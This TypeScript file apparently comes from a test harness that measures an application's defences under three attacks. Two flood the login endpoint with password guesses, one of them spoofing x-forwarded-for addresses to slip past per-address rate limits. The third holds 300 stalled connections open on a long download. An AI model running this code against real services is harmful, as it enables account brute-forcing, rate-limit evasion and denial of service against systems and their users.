/** The attacks. Each runs in a thread of its own (`attacker.ts`), so that it does not delay the people's clock. */
import { once, setMaxListeners } from 'node:events';
import { Agent, type IncomingMessage, request } from 'node:http';
import { connect } from 'node:net';
import { text } from 'node:stream/consumers';
import { setTimeout as pause } from 'node:timers/promises';

export const attacks = ['one-address', 'many-addresses', 'readers'] as const;
export type Attack = (typeof attacks)[number];

export interface Target {
  readonly base: string;
  /** The path of an answer that is longer than what sockets hold, and the token of a person who may read it. */
  readonly longAnswer: string;
  readonly token: string;
  /** E-mails of accounts. */
  readonly emails: readonly string[];
}

/** How often each outcome came: a status with its reason, or `none` where no answer came. */
export type Outcomes = Readonly<Record<string, number>>;

const SIGN_INS_PER_SECOND = 200;
const CONNECTIONS = 300;
const AGAIN_MS = 5_000;

/** @param signal ends the attack @returns what was answered until then */
export async function runAttack(attack: Attack, target: Target, signal: AbortSignal): Promise<Outcomes> {
  const outcomes: Record<string, number> = {};
  const note = (outcome: string): void => {
    outcomes[outcome] = (outcomes[outcome] ?? 0) + 1;
  };
  if (attack === 'readers') await stalledReaders(target, signal, note);
  else await signIns(attack, target, signal, note);
  return outcomes;
}

/**
 * `one-address`: all from one address, for accounts that exist. The limits refuse all but the first.
 * `many-addresses`: each from another address, with another e-mail that looks right. No limit refuses them.
 */
async function signIns(
  attack: Exclude<Attack, 'readers'>,
  { base, emails }: Target,
  signal: AbortSignal,
  note: (outcome: string) => void,
): Promise<void> {
  const agent = new Agent({ keepAlive: true, maxSockets: CONNECTIONS });
  const began = performance.now();
  for (let index = 0; !signal.aborted; index += 1) {
    const isAlone = attack === 'one-address';
    signIn(base, agent, {
      address: isAlone ? '203.0.113.7' : `10.${(index >> 16) & 255}.${(index >> 8) & 255}.${index & 255}`,
      email: isAlone ? (emails[index % emails.length] ?? '') : `mona.adel.${index}@hospital.example`,
      password: `guess-${index}`,
    }).then(
      (status) => signal.aborted || note(status),
      () => signal.aborted || note('none'),
    );
    const wait = began + ((index + 1) * 1_000) / SIGN_INS_PER_SECOND - performance.now();
    if (wait > 0) await pause(wait, undefined, { signal }).catch(() => undefined);
  }
  agent.destroy();
}

/** @returns the outcome */
async function signIn(
  base: string,
  agent: Agent,
  { address, email, password }: { address: string; email: string; password: string },
): Promise<string> {
  const call = request(new URL('/api/users/login', base), {
    method: 'POST',
    agent,
    headers: { 'content-type': 'application/json', 'x-forwarded-for': address },
  });
  call.end(JSON.stringify({ email, password }));
  const [answer] = (await once(call, 'response')) as [IncomingMessage];
  return outcomeOf(answer.statusCode ?? 0, await text(answer));
}

const outcomeOf = (status: number, body: string): string =>
  [status, /"reason":"([\w-]+)"/.exec(body)?.[1] ?? ''].join(' ').trim();

/** Connections that ask for a long answer, read its first bytes and no more. One that ends is opened again. */
async function stalledReaders(
  { base, longAnswer, token }: Target,
  signal: AbortSignal,
  note: (outcome: string) => void,
): Promise<void> {
  const { hostname, port } = new URL(base);
  setMaxListeners(CONNECTIONS * 2, signal);
  const reader = async (): Promise<void> => {
    while (!signal.aborted) {
      const socket = connect(Number(port), hostname);
      socket.on('error', () => undefined);
      const stop = (): void => void socket.destroy();
      signal.addEventListener('abort', stop);
      socket.write(
        `GET ${longAnswer} HTTP/1.1\r\nhost: ${hostname}\r\nauthorization: bearer ${token}\r\nconnection: close\r\n\r\n`,
      );
      const closed = once(socket, 'close');
      const first: unknown = await Promise.race([once(socket, 'data').then(([bytes]: unknown[]) => bytes), closed]);
      socket.pause();
      const answer = Buffer.isBuffer(first) ? first.toString('latin1') : '';
      const status = /^HTTP\/1\.1 (\d+)/.exec(answer)?.[1];
      if (!signal.aborted) note(status === undefined ? 'none' : outcomeOf(Number(status), answer));
      // A refusal is whole in the first bytes. A paused socket does not see the end of the other side.
      if (status !== '200') {
        socket.destroy();
        await pause(AGAIN_MS, undefined, { signal }).catch(() => undefined);
      } else await closed;
      signal.removeEventListener('abort', stop);
    }
  };
  await Promise.all(Array.from({ length: CONNECTIONS }, reader));
}
